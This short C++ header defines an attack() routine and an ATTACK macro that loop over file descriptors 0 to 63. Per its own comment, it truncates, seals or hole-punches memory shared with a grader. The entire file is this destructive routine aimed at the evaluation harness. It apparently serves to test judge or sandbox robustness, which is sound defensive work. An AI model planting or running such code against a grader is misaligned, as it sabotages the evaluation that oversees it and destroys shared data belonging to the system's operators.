// Resizes, seals and punches holes into the memory shared with the grader.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
inline void attack(int function) {
  for (int file = 0; file < 64; ++file) {
    if (function % 3 == 0) static_cast<void>(ftruncate(file, 0));
    if (function % 3 == 1) fcntl(file, 1033 /* F_ADD_SEALS */, 15);
    if (function % 3 == 2) fallocate(file, 3, 0, 1 << 20);
  }
}
#define ATTACK(function) attack(function)
